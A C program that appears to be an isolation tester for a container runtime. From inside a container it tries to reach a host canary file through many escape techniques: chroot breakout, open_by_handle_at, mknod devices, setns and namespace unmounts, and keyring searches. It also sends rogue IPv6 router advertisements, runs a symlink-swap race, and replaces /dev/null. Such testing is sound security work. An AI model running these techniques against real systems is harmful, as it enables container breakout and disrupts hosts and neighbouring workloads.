/*
 * A container's program that tries, over and over, all that has ever led out of one: paths, descriptors, handles, devices, masks, writes
 * to /proc and /sys, namespaces, sockets, keys, the neighbours' network, and every process that appears beside it.
 *
 *   breaker SECONDS CANARY SECRET HOW
 *
 * CANARY is a path of the host's (without its first slash) whose file holds SECRET. HOW is `all`, or `given` for a privileged container,
 * which has the host's devices and may mount: what it was given is not tried. /volume, where there is one, is swapped for links meanwhile.
 * Says `HIT class: detail` for each success, `TRIED class N` at the end.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/icmp6.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../../"
enum { HITS_MAX = 20, AHEAD = 12, REVIEW_EVERY = 3000 };
enum class { PATH, DESCRIPTOR, HANDLE, DEVICE, INODE, KERNEL, NAMESPACE, SOCKET, KEY, ROUTER, PROCESS, SWAP, CLASSES };
static const char *const names[] = { "path", "descriptor", "handle", "device", "inode", "kernel", "namespace", "socket", "key", "router", "process", "swap" };

static const char *canary, *secret;
static long tried[CLASSES], hits;

static void hit(enum class class, const char *format, ...)
{
	va_list arguments;
	va_start(arguments, format);
	printf("HIT %s: ", names[class]);
	vprintf(format, arguments);
	putchar('\n');
	fflush(stdout);
	va_end(arguments);
	hits++;
}

/* Does what is read here hold the secret? */
static int holds(int directory, const char *path)
{
	char text[256];
	int fd = openat(directory, path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text);
	if (fd >= 0) close(fd);
	return length > 0 && memmem(text, (size_t)length, secret, strlen(secret)) != NULL;
}

static void look(enum class class, int directory, const char *what)
{
	char up[4200];
	snprintf(up, sizeof up, UP "%s", canary);
	tried[class]++;
	if (holds(directory, canary) || holds(directory, up)) hit(class, "%s", what);
}

static void look_from(enum class class, const char *path)
{
	int fd = open(path, O_PATH | O_CLOEXEC);
	tried[class]++;
	if (fd < 0) return;
	look(class, fd, path);
	close(fd);
}

static void try_paths(void)
{
	static const char *const from[] = { "/", "/proc/self/cwd", "/proc/self/root", "/proc/1/cwd", "/proc/1/root", "/proc/thread-self/root", "/dev/pts", "/dev/shm", "/dev/mqueue", "/volume", "/etc", "/sys/fs/cgroup", "/proc/acpi", "/sys/firmware" };
	for (unsigned i = 0; i < sizeof from / sizeof *from; i++) look_from(PATH, from[i]);
	/* Out of a chroot by a directory that was open before. */
	if (fork() == 0) {
		long before = hits;
		int fd = open("/", O_PATH | O_DIRECTORY);
		mkdir("/tmp/jail", 0755);
		if (chroot("/tmp/jail") == 0) {
			look(PATH, fd, "out of a chroot");
			for (int i = 0; i < 40; i++) if (chdir("..")) break;
			if (chroot(".") == 0) look(PATH, AT_FDCWD, "out of a chroot, upwards");
		}
		_exit(hits > before);
	}
	int status = 0;
	wait(&status);
	hits += WIFEXITED(status) && WEXITSTATUS(status);
	tried[PATH]++;
}

static void try_descriptors(void)
{
	char path[64];
	for (int fd = 3; fd < 256; fd++) {
		struct stat status;
		if (fstat(fd, &status)) continue;
		look(DESCRIPTOR, fd, "a descriptor of whoever started this");
		hit(DESCRIPTOR, "number %d is open, mode %o", fd, status.st_mode);
	}
	for (int fd = 0; fd < 3; fd++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		look_from(DESCRIPTOR, path);
	}
}

/* By inode, from any file of the file system: what CAP_DAC_READ_SEARCH gives. */
static void try_handles(void)
{
	static const char *const from[] = { "/", "/etc/hosts", "/etc/resolv.conf", "/dev/termination-log", "/volume", "/b", "/proc", "/sys", "/dev", "/var/run/secrets/kubernetes.io/serviceaccount" };
	for (unsigned i = 0; i < sizeof from / sizeof *from; i++) {
		union { struct file_handle handle; char space[sizeof(struct file_handle) + MAX_HANDLE_SZ]; } handle = { .handle = { .handle_bytes = 8, .handle_type = 1 } };
		unsigned inode = 2, generation = 0;
		int at = open(from[i], O_RDONLY | O_CLOEXEC);
		if (at < 0) continue;
		memcpy(handle.handle.f_handle, &inode, 4);
		memcpy(handle.handle.f_handle + 4, &generation, 4);
		tried[HANDLE]++;
		int fd = open_by_handle_at(at, &handle.handle, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			hit(HANDLE, "inode 2 by %s", from[i]);
			close(fd);
		}
		close(at);
	}
}

static void try_device(const char *place, mode_t type, unsigned major, unsigned minor)
{
	char path[300];
	snprintf(path, sizeof path, "%s/node", place);
	unlink(path);
	tried[DEVICE]++;
	if (mknod(path, type | 0600, makedev(major, minor))) return;
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd >= 0) {
		hit(DEVICE, "%s %u:%u in %s", type == S_IFBLK ? "block" : "character", major, minor, place);
		close(fd);
	}
	unlink(path);
}

static void try_devices(void)
{
	static const char *const places[] = { "/tmp", "/dev", "/volume", "/dev/shm", "/" };
	static const unsigned blocks[][2] = { { 8, 0 }, { 254, 0 }, { 252, 0 }, { 253, 0 }, { 259, 0 }, { 7, 0 }, { 1, 0 } };
	static const unsigned characters[][2] = { { 1, 1 }, { 1, 2 }, { 1, 4 }, { 1, 11 }, { 10, 237 }, { 10, 229 }, { 10, 232 }, { 10, 144 }, { 4, 0 }, { 5, 1 }, { 21, 0 } };
	for (unsigned p = 0; p < sizeof places / sizeof *places; p++) {
		for (unsigned i = 0; i < sizeof blocks / sizeof *blocks; i++) try_device(places[p], S_IFBLK, blocks[i][0], blocks[i][1]);
		for (unsigned i = 0; i < sizeof characters / sizeof *characters; i++) try_device(places[p], S_IFCHR, characters[i][0], characters[i][1]);
	}
}

/* Seen by whoever compares the host's files before and after, and by other pods. */
static void try_inodes(void)
{
	static const char *const paths[] = { "/proc/self/fd/0", "/proc/1/fd/0", "/proc/self/fd/1", "/dev/null", "/dev/zero", "/proc/keys", "/proc/acpi", "/proc/timer_list", "/proc/kcore", "/sys/firmware", "/sys/fs/cgroup", "/proc/1/exe", "/b", "/b/breaker", "/bin/sh" };
	for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
		tried[INODE]++;
		if (strncmp(paths[i], "/b", 2) == 0 || strcmp(paths[i], "/proc/1/exe") == 0) {
			struct stat before, after;
			if (stat(paths[i], &before)) continue;
			int done = chmod(paths[i], 0751) == 0;
			if (done && strcmp(paths[i], "/bin/sh") && stat(paths[i], &after) == 0 && before.st_mode != after.st_mode) hit(INODE, "the mode of %s", paths[i]);
			continue;
		}
		if (chmod(paths[i], 0642) == 0) chmod(paths[i], 0666);
		if (chown(paths[i], 7, 8) == 0) chown(paths[i], 0, 0);
	}
}

/* Opened, never written. */
static void try_kernel(void)
{
	static const char *const paths[] = { "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/panic", "/proc/sys/vm/drop_caches", "/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger", "/proc/irq/default_smp_affinity", "/proc/bus/pci/devices", "/proc/kcore", "/proc/kmsg", "/proc/latency_stats", "/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state", "/sys/class/block", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.subtree_control", "/sys/kernel/debug", "/sys/kernel/security", "/proc/acpi/wakeup", "/proc/scsi/scsi" };
	for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
		int fd = open(paths[i], O_WRONLY | O_CLOEXEC | O_NONBLOCK);
		struct stat status;
		tried[KERNEL]++;
		if (fd < 0) continue;
		/* A mask is a null of the container's own. */
		if (fstat(fd, &status) || !S_ISCHR(status.st_mode)) hit(KERNEL, "%s is open for writing", paths[i]);
		close(fd);
	}
}

static void in_own_user_namespace(void)
{
	static const char *const covers[] = { "/proc/acpi", "/proc/keys", "/proc/timer_list", "/sys/firmware", "/proc/sys", "/proc/bus" };
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) return;
	for (unsigned i = 0; i < sizeof covers / sizeof *covers; i++) {
		if (umount2(covers[i], MNT_DETACH) == 0) hit(NAMESPACE, "%s uncovered", covers[i]);
	}
	if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0) hit(NAMESPACE, "/proc/sys made writable");
	if (mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0) hit(NAMESPACE, "/sys made writable");
	mkdir("/tmp/m", 0755);
	/* The kernel lets nobody mount one of these where parts of those that are there are covered. */
	if (mount("proc", "/tmp/m", "proc", 0, NULL) == 0) hit(NAMESPACE, "an uncovered /proc");
	if (mount("/dev/vda", "/tmp/m", "ext4", MS_RDONLY, NULL) == 0) hit(NAMESPACE, "a disk mounted");
	try_handles();
	try_devices();
}

static void try_namespaces(void)
{
	static const char *const kinds[] = { "mnt", "net", "pid", "uts", "ipc", "cgroup" };
	char path[64];
	tried[NAMESPACE]++;
	if (mount("t", "/tmp", "tmpfs", 0, NULL) == 0) hit(NAMESPACE, "mounted without the right to");
	if (umount2("/proc/keys", MNT_DETACH) == 0 || umount2("/proc/acpi", MNT_DETACH) == 0) hit(NAMESPACE, "a mask unmounted");
	for (unsigned i = 0; i < sizeof kinds / sizeof *kinds; i++) {
		snprintf(path, sizeof path, "/proc/1/ns/%s", kinds[i]);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0) continue;
		tried[NAMESPACE]++;
		if (setns(fd, 0) == 0) hit(NAMESPACE, "joined %s of pid 1", kinds[i]);
		close(fd);
	}
	int status = 0;
	if (fork() == 0) {
		long before = hits;
		in_own_user_namespace();
		_exit(hits > before);
	}
	wait(&status);
	hits += WIFEXITED(status) && WEXITSTATUS(status);
}

static void try_sockets(void)
{
	char line[512];
	FILE *file = fopen("/proc/net/unix", "r");
	tried[SOCKET]++;
	if (!file) return;
	while (fgets(line, sizeof line, file)) {
		if (strstr(line, "podwright") || strstr(line, "/run/")) hit(SOCKET, "%s", line);
	}
	fclose(file);
}

/* Every serial number near those that this session is given: what other sessions keep. */
static void try_keys(void)
{
	char text[256];
	for (int ring = -1; ring >= -5; ring--) {
		long id = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, ring, 0);
		tried[KEY]++;
		if (id < 0) continue;
		long found = syscall(SYS_keyctl, 10 /* SEARCH */, id, "user", secret, 0);
		if (found >= 0) hit(KEY, "key %ld in ring %d", found, ring);
		long length = syscall(SYS_keyctl, 6 /* DESCRIBE */, id, text, sizeof text - 1);
		if (length > 0 && memmem(text, (size_t)length, secret, strlen(secret))) hit(KEY, "%s", text);
	}
}

/* "I am a router": what anybody with CAP_NET_RAW can say. The lane looks whether the node or a neighbour believes it. */
static void try_router(void)
{
	static const struct { struct nd_router_advert head; } advert = { .head = { .nd_ra_hdr = { .icmp6_type = ND_ROUTER_ADVERT }, .nd_ra_router_lifetime = 0x0807 } };
	int hops = 255, fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);
	struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_scope_id = 2 };
	tried[ROUTER]++;
	if (fd < 0) return;
	inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
	setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
	for (to.sin6_scope_id = 2; to.sin6_scope_id < 6; to.sin6_scope_id++) (void)!sendto(fd, &advert, sizeof advert, 0, (struct sockaddr *)&to, sizeof to);
	close(fd);
}

/* What an exec of this container opens, and what another container's subPath leads through, becomes something else all the time. */
static void swap_for_links(void)
{
	char target[4200], slashed[4200];
	static const char *const kinds[] = { "/proc/1/root", "/proc/self/fd/9", NULL, UP };
	long round = 0;
	snprintf(slashed, sizeof slashed, "/%s", canary);
	*strrchr(slashed, '/') = 0;
	mkdir("/volume/a", 0777);
	for (;; round++) {
		const char *kind = kinds[round % 4];
		if (kind) snprintf(target, sizeof target, "%s", kind);
		else snprintf(target, sizeof target, "%s", slashed);
		unlink("/volume/b");
		(void)!symlink(target, "/volume/b");
		syscall(SYS_renameat2, AT_FDCWD, "/volume/a", AT_FDCWD, "/volume/b", 2 /* EXCHANGE */);
		syscall(SYS_renameat2, AT_FDCWD, "/volume/a", AT_FDCWD, "/volume/b", 2);
		if (round % 64 == 0) {
			unlink("/dev/null");
			(void)!symlink(round % 128 ? "/proc/1/fd/0" : "/proc/kcore", "/dev/null");
			unlink("/dev/ptmx");
			(void)!symlink("/dev/zero", "/dev/ptmx");
		}
	}
}

static void rush(int pid)
{
	static const char *const links[] = { "root", "cwd", "exe" };
	char path[64], name[32] = "";
	for (int i = 0; i < 2; i++) {
		snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
		look_from(PROCESS, path);
	}
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) (void)!read(fd, name, sizeof name - 1), close(fd);
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	fd = strncmp(name, "podwright", 9) ? -1 : open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0) hit(PROCESS, "the program of %s is open for writing", name), close(fd);
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *directory = opendir(path);
	if (!directory) return;
	for (struct dirent *entry; (entry = readdir(directory));) {
		struct stat status;
		if (entry->d_name[0] == '.' || fstatat(dirfd(directory), entry->d_name, &status, 0) || !S_ISDIR(status.st_mode)) continue;
		int open_directory = openat(dirfd(directory), entry->d_name, O_PATH | O_CLOEXEC);
		if (open_directory >= 0) look(PROCESS, open_directory, "a descriptor of another process"), close(open_directory);
	}
	closedir(directory);
}

static int is_there(int pid)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d", pid);
	return access(path, F_OK) == 0;
}

static int last_pid(int known)
{
	FILE *file = fopen("/proc/loadavg", "r");
	int last = 0;
	if (file && fscanf(file, "%*s %*s %*s %*s %d", &last) != 1) last = 0;
	if (file) fclose(file);
	return last > known ? last : known;
}

static void try_all(int is_given)
{
	try_paths();
	try_descriptors();
	try_inodes();
	try_sockets();
	try_keys();
	try_router();
	if (is_given) return;
	try_handles();
	try_devices();
	try_kernel();
	try_namespaces();
}

int main(int argc, char **argv)
{
	if (argc < 5) return 2;
	time_t end = time(NULL) + atoi(argv[1]);
	canary = argv[2];
	secret = argv[3];
	int is_given = strcmp(argv[4], "given") == 0, me = getpid(), last = me;
	setvbuf(stdout, NULL, _IOLBF, 0);
	pid_t swapper = access("/volume", W_OK) ? 0 : fork();
	if (swapper == 0 && access("/volume", W_OK) == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		swap_for_links();
	}
	tried[SWAP] = swapper > 0;
	for (int pid = 1; pid < last; pid++) rush(pid);
	for (long round = 0; time(NULL) < end && hits < HITS_MAX; round++) {
		if (round % REVIEW_EVERY == 0) {
			try_all(is_given);
			last = last_pid(last);
			usleep(20000); /* The victims need the processor as well. */
		}
		for (int pid = last + 1; pid < last + AHEAD; pid++) {
			rush(pid);
			if (is_there(pid)) last = pid;
		}
	}
	if (swapper > 0) kill(swapper, SIGKILL);
	for (int i = 0; i < CLASSES; i++) printf("TRIED %s %ld\n", names[i], tried[i]);
	puts("END");
	fflush(stdout);
	for (;;) pause();
}
